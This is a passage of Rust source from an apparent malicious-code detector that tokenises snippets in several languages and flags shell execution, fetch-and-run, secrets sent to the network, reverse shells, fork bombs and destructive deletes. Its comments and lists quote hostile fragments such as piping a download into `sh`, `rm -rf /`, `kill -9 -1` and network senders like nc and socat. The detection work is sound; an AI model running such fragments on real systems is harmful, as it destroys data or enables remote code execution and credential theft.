                vars.remove(name);
                vars.remove(&key);
            }
            if let Some(l) = known {
                var_bytes += 2 * l.len();
                vars.insert(name.to_string(), l.clone());
                vars.insert(key.clone(), l);
            } else if let [Tok::Ident(f)] = value {
                // `f = os.system` (also after `getattr(os, "sys" + "tem")`): calls of `f` are
                // calls of `os.system`.
                if [&v.shell, &v.argv, &v.eval, &v.delete, &v.unlink]
                    .iter()
                    .any(|l| in_list(f, l))
                {
                    funcs.insert(name.to_string(), f.clone());
                }
            } else if let Some(p) = resolve_path(value, v, &paths) {
                paths.insert(name.to_string(), p.clone());
                paths.insert(key, p);
            }
        }
        // PHP and Perl variable functions: `$f = "system"; $f("…")` calls `system`.
        let callee;
        let name = match vars.get(name) {
            Some(f)
                if name.starts_with('$')
                    && matches!(toks.get(i + 1), Some(Tok::Punct('(')))
                    && !f.is_empty()
                    && f.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') =>
            {
                callee = f.clone();
                callee.as_str()
            }
            _ => match funcs.get(name) {
                Some(f) if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
                    callee = f.clone();
                    callee.as_str()
                }
                _ => name,
            },
        };
        let followed_by_block = matches!(toks.get(i + 1), Some(Tok::Punct('{')));
        if v.fetch_modules.iter().any(|m| m == name) {
            fetch = true;
        }
        if in_list(name, &v.fetch) {
            fetch = true;
            net_call = true;
        }
        if in_list(name, &v.send) {
            send = true;
            net_call = true;
        }
        if is_dns_call(name) {
            dns = true;
        }
        // `process.env.GITHUB_TOKEN`, `$ENV{GITHUB_TOKEN}`, `ENV["X"]`, `os.environ["X"]`,
        // `os.getenv("X")`, `getenv("X")`: one named variable.
        if let Some(var) = name
            .strip_prefix("process.env.")
            .or_else(|| name.strip_prefix("Bun.env."))
        {
            if secret_named(var) {
                named_secrets.push(var.to_string());
            }
        } else if in_list(name, &v.secrets) || in_list(name, &v.home) {
            let key = toks[i + 1..toks.len().min(i + 5)]
                .iter()
                .find_map(|t| match t {
                    Tok::Str(k) => Some(k.clone()),
                    Tok::Ident(k)
                        if lang == Lang::Perl
                            && k.chars().all(|c| c.is_ascii_uppercase() || c == '_') =>
                    {
                        Some(k.clone())
                    }
                    _ => None,
                });
            if let Some(k) = key.filter(|k| secret_named(k)) {
                named_secrets.push(k);
            }
        }
        // `os.environ.items()`, `ENV.to_h`, `process.env` spread: the whole environment.
        if v.secrets.iter().any(|e| {
            name.strip_prefix(e.as_str())
                .and_then(|rest| rest.strip_prefix('.'))
                .is_some_and(|m| ENV_DUMPS.contains(&m.split('.').next().unwrap_or(m)))
        }) {
            secrets = true;
        }
        // `sqlite3.connect(DB)`, `psycopg2.connect(dsn)`: a database handle, not a socket.
        if in_list(name, &v.socket) && !DATABASE_CONNECTS.iter().any(|d| name.ends_with(d)) {
            socket = true;
        }
        if in_list(name, &v.stdin) {
            stdin = true;
        }
        if in_list(name, &v.secrets) {
            // The whole environment (not one named variable) or a dump of it.
            let next = toks.get(i + 1);
            // `System.getenv().get("X")`, `System.getenv().getOrDefault("X", d)`: one variable
            // looked up in the map of all of them.
            let looked_up = matches!(
                toks.get(i + 1..i + 5),
                Some([Tok::Punct('('), Tok::Punct(')'), Tok::Punct('.'), Tok::Ident(m)])
                    if matches!(m.as_str(), "get" | "getOrDefault" | "getenv")
            ) && matches!(toks.get(i + 6), Some(Tok::Str(_)));
            let one_var = matches!(next, Some(Tok::Punct('[' | '.')))
                || looked_up
                || matches!(next, Some(Tok::Punct('(')))
                    && matches!(toks.get(i + 2), Some(Tok::Str(_)));
            if !one_var || lang == Lang::Perl && name == "%ENV" {
                secrets = true;
            }
        }
        if in_list(name, &v.fork) {
            fork = true;
        }
        // `os.kill(-1, 9)`, `kill 9, -1`, `process.kill(-1)`: every process the user can reach.
        if in_list(name, &v.kill) {
            let args = args_of(toks, i, lang).unwrap_or(&toks[i + 1..toks.len().min(i + 6)]);
            let minus_one = args.windows(2).any(
                |w| matches!(w, [Tok::Punct('-'), Tok::Num(n)] if n.trim_start_matches('0') == "1"),
            ) || args.iter().any(|t| matches!(t, Tok::Num(n) if n == "-1"));
            // `os.kill(1, 9)`, `process.kill(1)`: pid 1 (init) is the first argument there.
            let init = matches!(lang, Lang::Python | Lang::JavaScript)
                && matches!(args.first(), Some(Tok::Num(n)) if n.trim_start_matches('0') == "1");
            if minus_one || init {
                let pid = if minus_one { "-1" } else { "1" };
                r.runs.push((
                    Run::Argv(vec!["kill".into(), "-9".into(), pid.into()]),
                    name.to_string(),
                ));
            }
        }
        if in_list(name, &v.eval) && !followed_by_block {
            let last = name.rsplit('.').next().unwrap_or(name);
            match args_of(toks, i, lang) {
                Some(args) => {
                    // `exec("…")`, `eval "…"`, `compile("…", "x", "exec")`: literal code in the
                    // same language, analysed as if written out.
                    let first = split_args(args).into_iter().next().unwrap_or(&[]);
                    let inner_code = literal(first, &vars);
                    let url = inner_code
                        .as_ref()
                        .is_some_and(|c| c.starts_with("http://") || c.starts_with("https://"));
                    // (Ruby's `load` takes a file; Lua's, code.)
                    let takes_code =
                        CODE_EVALS.contains(&last) && !(lang == Lang::Ruby && last == "load");
                    // `import("data:text/javascript;base64,…")`: the module is the URL's text.
                    if let Some(code) = inner_code.as_deref().and_then(data_url_code) {
                        r.dynamic.push(name.to_string());
                        merge_nested(&mut r, lang, v, &code, inputs, depth);
                        continue;
                    }
                    if let Some(file) = inner_code.as_ref().filter(|_| url || !takes_code) {
                        // `include "/tmp/s.php"`, `require "/tmp/x.rb"`, `dofile("/tmp/p.lua")`.
                        evaluated_files.push(file.clone());
                    }
                    // `exec(open("/tmp/r.py").read())`, `eval(fs.readFileSync("x.js", "utf8"))`:
                    // the code is a file's content.
                    if inner_code.is_none() && takes_code {
                        evaluated_files.extend(read_file_argument(first, &vars));
                    }
                    if let Some(inner) = inner_code.filter(|_| !url && takes_code) {
                        // Decoded from character codes, rot13 or reversed text: hidden on purpose,
                        // reported even when the decoded code does nothing known.
                        if obfuscated {
                            r.dynamic.push(name.to_string());
                        }
                        merge_nested(&mut r, lang, v, &inner, inputs, depth);
                    } else if !args.is_empty() && literal(args, &vars).is_none() {
                        dynamic_eval = true;
                        // Code assembled from character codes, decoded or reversed text is
                        // hiding what it runs: reported even without a download.
                        if args.iter().any(|t| {
                            matches!(t, Tok::Ident(n) if OBFUSCATORS.iter().any(|o| dotted_tail(n, o)))
                        }) {
                            r.dynamic.push(name.to_string());
                        }
                        if decodes_in_place(args) {
                            r.obfuscated.push(name.to_string());
                        }
                    }
                }
                // `.then(eval)`: the evaluator passed as a value runs whatever it is given.
                None => {
                    if matches!(toks.get(i + 1), Some(Tok::Punct(')' | ','))) {
                        dynamic_eval = true;
                    }
                    // Perl's bare `eval;` runs `$_`: text built at run time (a `tr` rot13).
                    if lang == Lang::Perl
                        && name == "eval"
                        && matches!(toks.get(i + 1), None | Some(Tok::Punct(';' | '}')))
                    {
                        dynamic_eval = true;
                        r.dynamic.push(name.to_string());
                    }
                }
            }
        }
        // `sh.rm("-rf", "/")`: the function name is the program.
        if let Some((module, program)) = name.rsplit_once('.') {
            if v.programs.iter().any(|m| m == module) && !in_list(name, &v.shell) {
                if let Some(args) = args_of(toks, i, lang) {
                    let words: Option<Vec<String>> = split_args(args)
                        .into_iter()
                        .map(|a| path_value(a, v, &paths, &vars))
                        .collect();
                    if let Some(words) = words {
                        let mut argv = vec![program.to_string()];
                        argv.extend(words);
                        r.runs.push((Run::Argv(argv), name.to_string()));
                    }
                }
            }
        }
        let is_shell = in_list(name, &v.shell);
        let is_argv = in_list(name, &v.argv);
        if is_shell || is_argv {
            if let Some(args) = args_of(toks, i, lang) {
                let parts = split_args(args);
                let run = run_of(lang, name, &parts, is_argv, &vars).or_else(|| {
                    // `os.system(open("/tmp/.c").read())`: the command line is a file's content.
                    let file = parts.first().and_then(|p| read_file_argument(p, &vars));
                    file.filter(|f| !f.contains("://"))
                        .map(|f| Run::Argv(vec!["sh".into(), f]))
                });
                // `Command::new("rm").arg("-rf").args(["/"])`: the builder's calls add the rest.
                let chain = call_args(toks, i + 1)
                    .map(|(_, end)| builder_args(toks, end, &vars))
                    .filter(|(rest, known)| is_argv && (!rest.is_empty() || !known));
                let run = match (run, chain) {
                    (Some(run), Some((rest, known))) => {
                        let mut argv = match run {
                            Run::Argv(a) => a,
                            Run::Shell(program) => vec![program],
                        };
                        argv.extend(rest);
                        // A shell whose command is computed at run time is dynamic code; any
                        // other program keeps the arguments known so far.
                        let program = argv[0].rsplit('/').next().unwrap_or("");
                        (known || !runs_code_argument(program)).then_some(Run::Argv(argv))
                    }
                    (run, _) => run,
                };
                if let Some(run) = run {
                    // `subprocess.run(["sh"], input=urlopen(URL).read())`: fetched text on the
                    // stdin of a shell or an interpreter that reads its program there.
                    let bare = matches!(&run, Run::Argv(a) if a.len() == 1
                        && runs_code_argument(a[0].rsplit('/').next().unwrap_or("")));
                    let fed_fetch = parts.iter().any(|p| match p {
                        [Tok::Ident(k), Tok::Punct('='), rest @ ..]
                            if k == "input" || k == "stdin" =>
                        {
                            rest.iter()
                                .any(|t| matches!(t, Tok::Ident(f) if in_list(f, &v.fetch)))
                        }
                        _ => false,
                    });
                    if bare && fed_fetch {
                        r.fetch_exec = true;
                    }
                    // `subprocess.run(["sh"], input=b"rm -rf ~")`: literal text on a shell's
                    // stdin is its command line.
                    let fed_shell = matches!(&run, Run::Argv(a) if a.len() == 1
                        && is_posix_shell(a[0].rsplit('/').next().unwrap_or("")));
                    if fed_shell {
                        let fed_text = parts.iter().find_map(|p| match p {
                            [Tok::Ident(k), Tok::Punct('='), rest @ ..] if k == "input" => {
                                literal(rest, &vars)
                            }
                            _ => None,
                        });
                        if let Some(code) = fed_text {
                            r.runs.push((Run::Shell(code), name.to_string()));
                        }
                    }
                    r.runs.push((run, name.to_string()));
                } else if !(parts.is_empty()
                    || matches!(lang, Lang::Perl | Lang::Ruby) && name == "open")
                {
                    dynamic_run = true;
                    r.dynamic.push(name.to_string());
                    if decodes_in_place(args) {
                        r.obfuscated.push(name.to_string());
                    }
                }
            }
        }
        if matches!(name.rsplit('.').next(), Some("chdir" | "setwd"))
            && (cwd.is_none()
                || inherited_cwd && cwd.as_ref().is_some_and(|c| c.1 == 0 && c.2 == 0))
        {
            let target = args_of(toks, i, lang)
                .and_then(|a| path_value(split_args(a).first()?, v, &paths, &vars));
            if let Some(dir) = target.filter(|d| d.starts_with(['/', '~'])) {
                cwd = Some((dir, r.runs.len(), r.deletes.len(), r.writes.len()));
            }
        }
        if in_list(name, &v.rename) {
            let paths_of = args_of(toks, i, lang).map(|a| {
                split_args(a)
                    .into_iter()
                    .map(|p| path_value(p, v, &paths, &vars))
                    .collect::<Vec<_>>()
            });
            if let Some([Some(from), Some(to), ..]) = paths_of.as_deref() {
                let argv = vec!["mv".to_string(), from.clone(), to.clone()];
                r.runs.push((Run::Argv(argv), name.to_string()));
            }
        }
        if in_list(name, &v.chmod) {
            if let Some(args) = args_of(toks, i, lang) {
                let parts = split_args(args);
                // The mode is the numeric argument (first in Perl and Ruby, second elsewhere).
                let mode = parts.iter().find_map(|p| match p {
                    [Tok::Num(n)] => octal_mode(n),
                    _ => None,
                });
                let paths: Vec<String> = parts
                    .iter()
                    .filter(|p| !matches!(p, [Tok::Num(_)]))
                    .filter_map(|p| path_value(p, v, &paths, &vars))
                    .collect();
                if let Some(mode) = mode {
                    for p in paths {
                        let argv = vec!["chmod".to_string(), mode.clone(), p];
                        r.runs.push((Run::Argv(argv), name.to_string()));
                    }
                }
            }
        }
        if in_list(name, &v.delete) {
            if let Some(args) = args_of(toks, i, lang) {
                let needs_ok = v.delete_needs.is_empty()
                    || v.delete_needs.iter().any(|n| name.contains(n.as_str()))
                    || args.iter().any(|t| matches!(t, Tok::Ident(k) if k == "recursive" || k.ends_with(".recursive")));
                let first = split_args(args).into_iter().next().unwrap_or(&[]);
                // `new File(home).deleteDir()`, `path.deleteRecursively()`: the receiver.
                if first.is_empty() && needs_ok {
                    let path_of = |a: &[Tok]| path_value(a, v, &paths, &vars);
                    if let Some(p) = receiver_path(toks, i, &path_of) {
                        r.deletes.push((p, name.to_string()));
                    }
                }
                if needs_ok {
                    if let Some(p) = path_value(first, v, &paths, &vars) {
                        r.deletes.push((p, name.to_string()));
                    }
                }
            }
        }
    }
    let dir = cwd.as_ref().map(|c| c.0.as_str());
    enumerated_deletes(lang, toks, v, &paths, &vars, dir, &mut r);
    writes_and_shell_pipes(lang, toks, v, &paths, &vars, &mut r);
    if let Some((dir, runs_at, deletes_at, writes_at)) = &cwd {
        in_directory(&mut r, dir, *runs_at, *deletes_at, *writes_at);
    }
    // A download through a command (`io.popen("curl -s URL")`, `os.system("wget …")`).
    let run_words = |run: &Run| -> Vec<String> {
        match run {
            Run::Argv(a) => a.clone(),
            Run::Shell(s) => s.split_whitespace().map(str::to_string).collect(),
        }
    };
    fetch |= r.runs.iter().any(|(run, _)| {
        run_words(run)
            .first()
            .is_some_and(|p| matches!(p.rsplit('/').next(), Some("curl" | "wget")))
    });
    // A file this code writes (a download's target) that it then runs or loads.
    let written: Vec<&str> = r
        .writes
        .iter()
        .map(|(p, _, _)| p.as_str())
        .filter(|p| p.len() > 1)
        .collect();
    let runs_written = r.runs.iter().any(|(run, _)| {
        let text = match run {
            Run::Argv(a) => a.join(" "),
            Run::Shell(s) => s.clone(),
        };
        written.iter().any(|w| text.contains(w))
    }) || evaluated_files
        .iter()
        .any(|f| written.contains(&f.as_str()));
    // `include "http://…"`, `source("https://…")`, `load("http://…")`: code loaded from a URL.
    let loads_url = evaluated_files
        .iter()
        .any(|f| f.starts_with("http://") || f.starts_with("https://"));
    r.fetch_exec |= fetch && (dynamic_eval || dynamic_run || runs_written) || loads_url;
    // Code that fetches and writes computed content has saved the download (`open(p,
    // "wb").write(urlopen(u).read())`): a later command that runs the file runs the download.
    if fetch {
        let url = toks
            .iter()
            .find_map(|t| match t {
                Tok::Str(s) if s.starts_with("http://") || s.starts_with("https://") => {
                    Some(s.clone())
                }
                _ => None,
            })
            .unwrap_or_else(|| "https://unknown.invalid/".to_string());
        // A "content" that is only the fetched URL is the response body, not that text.
        for (_, content, _) in r.writes.iter_mut() {
            if content.as_deref().is_some_and(|c| {
                (c.starts_with("http://") || c.starts_with("https://"))
                    && !c.contains(char::is_whitespace)
            }) {
                *content = None;
            }
        }
        r.downloads = r
            .writes
            .iter()
            .filter(|(p, content, _)| content.is_none() && p.len() > 1)
            .map(|(p, _, _)| (p.clone(), url.clone()))
            .collect();
    }
    r.runs_input = stdin && (dynamic_eval || dynamic_run || interpolated_cmd);
    r.stdin_to_network = stdin && send;
    let endless = infinite_loop(toks);
    r.fork_loop = fork && (endless || huge_count(toks));
    r.memory_loop = (endless && grows_in_blocks(toks)) || huge_allocation(toks);
    // A shell command assembled at run time around a network tool (`os.execute("curl -d "..f..
    // " http://…")`) sends too.
    // So does a network tool given arguments computed at run time (`["curl", "-d", secret, URL]`).
    let is_sender = |w: &str| {
        matches!(
            w.rsplit('/').next(),
            Some("curl" | "wget" | "nc" | "ncat" | "socat")
        )
    };
    let computed_send = r.runs.iter().any(|(run, _)| {
        matches!(run, Run::Argv(a) if a.iter().any(|w| w == UNKNOWN_ARG) && is_sender(&a[0]))
    });
    if computed_send
        || dynamic_run
            && toks.iter().any(
                |t| matches!(t, Tok::Str(s) if s.split_whitespace().next().is_some_and(is_sender)),
            )
    {
        send = true;
        net_call = true;
    }
    // Credential files or the whole environment reaching a sender, a fetch of a literal URL (a
    // GET carries it in the URL), or a DNS lookup; a credential variable reaching a DNS lookup.
    r.secret_to_network =
        secrets && (send || (net_call && url_literal) || dns) || dns && !named_secrets.is_empty();
    // One credential variable reaching a request to a host that is not its vendor's
    // (`GITHUB_TOKEN` to api.github.com is ordinary use).
    r.secret_variable_to_network = !r.secret_to_network
        && net_call
        && !hosts.is_empty()
        && named_secrets.iter().any(|var| {
            !hosts
                .iter()
                .any(|h| crate::text::vendor::vendor_of_variable(var, h))
        });
    r.vendor_secret_elsewhere = r.secret_variable_to_network
        && named_secrets.iter().any(|var| {
            crate::text::vendor::names_known_vendor(var)
                && !hosts
                    .iter()
                    .any(|h| crate::text::vendor::vendor_of_variable(var, h))
        });
    let runs_shell = r.runs.iter().any(|(run, _)| {
        let first = match run {
            Run::Argv(a) => a.first().map(String::as_str).unwrap_or(""),
            Run::Shell(s) => s.split_whitespace().next().unwrap_or(""),
        };
        is_shell_program(first.rsplit(['/', '\\']).next().unwrap_or(first))
    });
    // `http.get(URL, r => r.pipe(spawn("sh").stdin))`: a bare shell in code that downloads reads
    // the download.
    let bare_shell = r.runs.iter().any(|(run, _)| match run {
        Run::Argv(a) => a.len() == 1 && is_shell_program(a[0].rsplit('/').next().unwrap_or("")),
        Run::Shell(s) => is_shell_program(s.trim().rsplit('/').next().unwrap_or("")),
    });
    r.fetch_exec |= fetch && bare_shell && toks.iter().any(|t| matches!(t, Tok::Ident(n) if n.ends_with("pipe") || n.ends_with("stdin") || n.ends_with("stdin.write")));
    // `subprocess.run(["sh"], stdin=sys.stdin)`: a bare shell handed the code's own stdin runs
    // whatever is piped in.
    r.runs_input |= bare_shell
        && toks.iter().any(|t| {
            matches!(t, Tok::Ident(n) if n.split('.').eq(["sys", "stdin"])
                || matches!(n.as_str(), "process.stdin" | "STDIN" | "$stdin"))
        });
    r.reverse_shell = socket && (runs_shell || dynamic_run || interpolated_cmd);
    // A source file this code loads and runs (`runpy.run_path("/tmp/r.py")`, `require
    // "./x.rb"`, `exec(open(f).read())`) runs as `python3 /tmp/r.py` would: the shell layer
    // judges the file's content when the input wrote it.
    if let Some(program) = lang.program() {
        for f in evaluated_files.iter().filter(|f| is_source_path(f)) {
            let run = Run::Argv(vec![program.to_string(), f.clone()]);
            if !r.runs.iter().any(|(x, _)| *x == run) {
                r.runs.push((run, "load".to_string()));
            }
        }
    }
    r
}

/// A local source file's path as code names it for loading: a path (`./x.js`, `/tmp/r.py`)
/// or a name with a source extension; not a module name (`json`, `fs`) nor a URL.
fn is_source_path(f: &str) -> bool {
    const SOURCE: &[&str] = &[
        "py", "js", "mjs", "cjs", "ts", "rb", "pl", "pm", "php", "lua", "tcl", "r", "R", "jl",
        "groovy", "sh",
    ];
    let name = f.rsplit('/').next().unwrap_or(f);
    // (`require("./data.json")` reads data: a name with an extension is source only with a
    // source extension.)
    let source = match name.rsplit_once('.') {
        Some((stem, ext)) if !stem.is_empty() => SOURCE.contains(&ext),
        _ => f.contains('/'),
    };
    source && !f.contains("://") && !f.starts_with('-') && !f.contains(char::is_whitespace)
}

/// The file a file-reading call in `arg` names (`open("/tmp/r.py").read()`,
/// `fs.readFileSync(p, "utf8")`, `File.read("x.rb")`, `file_get_contents("x.php")`).
fn read_file_argument(arg: &[Tok], vars: &HashMap<String, String>) -> Option<String> {
    arg.windows(3).find_map(|w| match w {
        [Tok::Ident(n), Tok::Punct('('), path]
            if [
                "open",
                "readFileSync",
                "readFile",
                "read",
                "file_get_contents",
                "slurp",
            ]
            .iter()
            .any(|r| dotted_tail(n, r)) =>
        {
            // A file name, not a mode (`io.popen(c):read("*a")`, `f.read("r")`).
            literal(std::slice::from_ref(path), vars).filter(|p| {
                p.contains(['/', '.']) && !p.contains(['*', ' ']) && !p.starts_with("http")
            })
        }
        _ => None,
    })
}

/// POSIX-family shells, by base name.
fn is_posix_shell(base: &str) -> bool {
    matches!(base, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash")
}

/// `sh` or `bash`, by name or by their `/bin` path: a handle a snippet writes commands into.
fn is_sh_or_bash(program: &str) -> bool {
    matches!(program, "sh" | "bash" | "/bin/sh" | "/bin/bash")
}

/// Shells and command interpreters a snippet can start.
fn is_shell_program(base: &str) -> bool {
    is_posix_shell(base) || matches!(base, "cmd.exe" | "cmd" | "powershell" | "pwsh")
}

/// Programs that run code given on their command line (shells and interpreters).
fn runs_code_argument(program: &str) -> bool {
    is_shell_program(program)
        || matches!(
            program,
            "python" | "python3" | "perl" | "ruby" | "node" | "php" | "lua" | "tclsh" | "osascript"
        )
}

/// Effects after a change of directory happen in `dir`: relative delete and write targets are
/// joined to it, and commands run there (`cd DIR && …`, so the shell layer resolves `rm -rf *`).
/// Deletes and writes found by the whole-code passes (enumerations, handle writes) are joined too.
fn in_directory(r: &mut Report, dir: &str, runs_at: usize, deletes_at: usize, writes_at: usize) {
    let join = |p: &str| join_dir(dir, p);
    let quoted = |w: &str| -> String {
        if w == UNKNOWN_ARG {
            format!("\"{UNKNOWN_ARG_SHELL}\"")
        } else if !w.is_empty()
            && w.chars()
                .all(|c| c.is_ascii_alphanumeric() || "/._-~=+:,@".contains(c))
        {
            w.to_string()
        } else {
            format!("'{}'", w.replace('\'', r"'\''"))
        }
    };
    let cd = format!("cd {} && ", quoted(dir));
    for (run, _) in r.runs.iter_mut().skip(runs_at) {
        *run = match run {
            Run::Shell(s) => Run::Shell(format!("{cd}{s}")),
            Run::Argv(a) => Run::Shell(format!(
                "{cd}{}",
                a.iter().map(|w| quoted(w)).collect::<Vec<_>>().join(" ")
            )),
        };
    }
    for (p, _) in r.deletes.iter_mut().skip(deletes_at) {
        *p = join(p);
    }
    for (p, _, _) in r.writes.iter_mut().skip(writes_at) {
        *p = join(p);
    }
}

/// An options object sets `key: true` (`{ append: true }`, `{ write: true }`).
fn option_true(toks: &[Tok], key: &str) -> bool {
    toks.windows(3).any(
        |w| matches!(w, [Tok::Ident(k), Tok::Punct(':'), Tok::Ident(t)] if k == key && t == "true"),
    )
}

/// `p` as seen from directory `dir`: absolute, home and variable paths stay as they are.
fn join_dir(dir: &str, p: &str) -> String {
    if p.starts_with(['/', '~', '$']) {
        return p.to_string();
    }
    match p.trim_start_matches("./") {
        "" | "." => dir.to_string(),
        rel => format!("{}/{rel}", dir.trim_end_matches('/')),
    }
}

/// File writes with literal content (`open(p, 'a').write(s)`, `fs.appendFileSync(p, s)`,
/// `Path(p).write_text(s)`, `File.write(p, s)`, Perl `open(F, ">>p"); print F s`), and text written
/// into a shell's stdin (`open(F, "|sh"); print F s`, `Popen(["sh"], stdin=PIPE).communicate(s)`).
fn writes_and_shell_pipes(
    lang: Lang,
    toks: &[Tok],
    v: &Vocab,
    paths: &HashMap<String, String>,
    vars: &HashMap<String, String>,
    r: &mut Report,
) {
    let path_of = |arg: &[Tok]| path_value(arg, v, paths, vars);
    let first_str_after = |from: usize| -> Option<String> {
        toks[from..].iter().take(6).find_map(|t| {
            if let Tok::Str(s) = t {
                Some(s.clone())
            } else {
                None
            }
        })
    };
    let mut shell_handle = false;
    for (i, t) in toks.iter().enumerate() {
        let Tok::Ident(name) = t else { continue };
        let last = name.rsplit('.').next().unwrap_or(name);
        match last {
            // Python `open(PATH, MODE)…write(TEXT)` and Perl `open(F, ">>PATH")`.
            "open" | "openSync" => {
                // Perl also writes `open my $f, ">>", PATH;` without parentheses.
                let bare = (lang == Lang::Perl
                    && !matches!(toks.get(i + 1), Some(Tok::Punct('('))))
                .then(|| {
                    // The arguments end at the statement's end or at `or die`, `|| die`.
                    let end = toks[i + 1..]
                        .iter()
                        .position(|t| match t {
                            Tok::Punct(';' | '|') => true,
                            Tok::Ident(w) => matches!(w.as_str(), "or" | "and" | "unless" | "if"),
                            _ => false,
                        })
                        .map_or(toks.len(), |p| i + 1 + p);
                    (&toks[i + 1..end], end)
                });
                let Some((args, after)) = bare.or_else(|| call_args(toks, i + 1)) else {
                    continue;
                };
                let parts = split_args(args);
                let strs: Vec<String> = parts.iter().filter_map(|p| literal(p, vars)).collect();
                if strs.iter().any(|s| {
                    let t = s.trim();
                    (t.starts_with('|') || t == "|-")
                        && t.trim_start_matches(['|', '-'])
                            .split_whitespace()
                            .next()
                            .is_some_and(|p| {
                                matches!(p, "sh" | "bash" | "/bin/sh" | "/bin/bash" | "zsh")
                            })
                        || strs.last().is_some_and(|l| is_sh_or_bash(l))
                            && strs.iter().any(|m| m == "|-")
                }) {
                    shell_handle = true;
                    continue;
                }
                if lang == Lang::Perl {
                    // `open(F, ">>PATH")`, or three arguments: `open(my $f, ">", PATH)`.
                    if let Some(k) = strs
                        .iter()
                        .position(|s| s.starts_with('>') || s.starts_with("+<"))
                    {
                        let spec = &strs[k];
                        let append = spec.starts_with(">>");
                        let mut p = spec.trim_start_matches(['+', '>', '<']).trim().to_string();
                        if p.is_empty() {
                            p = strs.get(k + 1).cloned().unwrap_or_default();
                        }
                        if !p.is_empty() {
                            let p = home_to_tilde(&p);
                            r.writes
                                .push((p, later_write_text(toks, after, vars), append));
                        }
                    }
                    continue;
                }
                // Deno `open(p, { write: true })`, `{ append: true }`.
                let option = |key: &str| parts.get(1).is_some_and(|p| option_true(p, key));
                // `(Path.home() / ".bashrc").open("a")`: the receiver in parentheses is the path.
                let bracketed = (lang == Lang::Python
                    && name == "open"
                    && i >= 2
                    && matches!(toks[i - 1], Tok::Punct('.'))
                    && matches!(toks[i - 2], Tok::Punct(')')))
                .then(|| {
                    let mut depth = 0usize;
                    let open_at = (0..i - 1).rev().find(|&k| {
                        match toks[k] {
                            Tok::Punct(')') => depth += 1,
                            Tok::Punct('(') => depth = depth.saturating_sub(1),
                            _ => {}
                        }
                        depth == 0
                    })?;
                    let mut target: Vec<Tok> = toks[open_at + 1..i - 2].to_vec();
                    target.retain(|t| !matches!(t, Tok::Punct('/')));
                    path_of(&target)
                })
                .flatten();
                // `p.open("a")` with `p` a known path (pathlib): the mode comes first.
                let receiver = || {
                    name.strip_suffix(".open")
                        .and_then(|recv| paths.get(recv).cloned())
                        .filter(|_| lang == Lang::Python)
                };
                if let Some(path) = bracketed.or_else(receiver) {
                    let mode = parts
                        .first()
                        .and_then(|p| literal(p, vars))
                        .unwrap_or_else(|| "r".into());
                    if mode.contains(['w', 'a', '+']) {
                        let text =
                            first_str_after(after).or_else(|| later_write_text(toks, after, vars));
                        r.writes.push((path, text, mode.contains('a')));
                    }
                    continue;
                }
                let mode = parts
                    .get(1)
                    .and_then(|p| literal(p, vars))
                    .unwrap_or_else(|| {
                        if option("append") {
                            "a".into()
                        } else if option("write") {
                            "w".into()
                        } else {
                            String::new()
                        }
                    });
                if mode.contains(['w', 'a', '+']) {
                    if let Some(path) = parts.first().and_then(|p| path_of(p)) {
                        // `.write(TEXT)` right after the call, or the literal text of the writes
                        // that follow (`with open(p, "a") as f: f.write(TEXT)`, `f:write(TEXT)`).
                        let immediate = matches!(toks.get(after), Some(Tok::Punct('.' | ':')))
                            || matches!(toks.get(after), Some(Tok::Ident(w)) if w.ends_with("write"));
                        let text = if immediate {
                            first_str_after(after)
                        } else {
                            later_write_text(toks, after, vars)
                        };
                        r.writes.push((path, text, mode.contains('a')));
                    }
                }
            }
            // `urlretrieve(URL, PATH)`, Perl `getstore(URL, PATH)` / `mirror`, R `download.file`:
            // a download written to PATH.
            "urlretrieve" | "getstore" | "mirror" | "download_file" | "file"
                if matches!(toks.get(i + 1), Some(Tok::Punct('(')))
                    && (last != "file" || name.ends_with("download.file")) =>
            {
                if let Some((args, _)) = call_args(toks, i + 1) {
                    if let Some(path) = split_args(args).get(1).and_then(|p| path_of(p)) {
                        r.writes.push((path, None, false));
                    }
                }
            }
            // Ruby `IO.copy_stream(SRC, DST)`, Python `shutil.copyfile(SRC, DST)`: DST is written.
            "copy_stream" | "copyfile" | "copy2" | "copy"
                if matches!(toks.get(i + 1), Some(Tok::Punct('(')))
                    && (last != "copy" || name == "shutil.copy") =>
            {
                if let Some((args, _)) = call_args(toks, i + 1) {
                    // A file copied into place (a hook installed from the repository) is not
                    // judged by its unknown content; a copy onto a device is.
                    if let Some(path) = split_args(args)
                        .get(1)
                        .and_then(|p| path_of(p))
                        .filter(|p| last == "copy_stream" || p.starts_with("/dev/"))
                    {
                        r.writes.push((path, None, false));
                    }
                }
            }
            // R `write(TEXT, file = PATH, append = TRUE)`, `cat(TEXT, file = PATH)`,
            // `writeLines(TEXT, PATH)`: the file is a named argument.
            // `writeBin(RAW, "/dev/sda")`, `writeChar(TEXT, con = PATH)`: the connection.
            "write" | "cat" | "writeLines" | "writeBin" | "writeChar"
                if lang == Lang::R && matches!(toks.get(i + 1), Some(Tok::Punct('('))) =>
            {
                if let Some((args, _)) = call_args(toks, i + 1) {
                    let parts = split_args(args);
                    let named = |key: &str| {
                        parts.iter().find_map(|p| match p {
                            [Tok::Ident(k), Tok::Punct('='), value @ ..] if k == key => Some(value),
                            _ => None,
                        })
                    };
                    let target = named("file").or_else(|| named("con")).or_else(|| {
                        matches!(last, "writeLines" | "writeBin" | "writeChar")
                            .then(|| parts.get(1).copied())
                            .flatten()
                    });
                    if let Some(path) = target.and_then(&path_of) {
                        let append = named("append").is_some_and(
                            |v| matches!(v, [Tok::Ident(t)] if t == "TRUE" || t == "T"),
                        );
                        let text = parts.first().and_then(|p| literal(p, vars));
                        r.writes.push((path, text, append));
                    }
                }
                continue;
            }
            // `os.truncate(p, 0)`, `File.truncate(p, 0)`, `ftruncate`, Perl's `truncate
            // "/etc/shadow", 0`: the file is emptied.
            "truncate" => {
                if let Some(args) = args_of(toks, i, lang) {
                    if let Some(path) = split_args(args).first().and_then(|p| path_of(p)) {
                        r.writes.push((path, None, false));
                    }
                }
            }
            // `fs.createWriteStream(p)`: a stream written with whatever is piped into it.
            "createWriteStream" | "fopen" if matches!(toks.get(i + 1), Some(Tok::Punct('('))) => {
                if let Some((args, _)) = call_args(toks, i + 1) {
                    let parts = split_args(args);
                    let mode = parts
                        .get(1)
                        .and_then(|p| literal(p, vars))
                        .unwrap_or_else(|| "w".into());
                    if mode.contains(['w', 'a', '+']) {
                        if let Some(path) = parts.first().and_then(|p| path_of(p)) {
                            r.writes.push((path, None, mode.contains('a')));
                        }
                    }
                }
            }
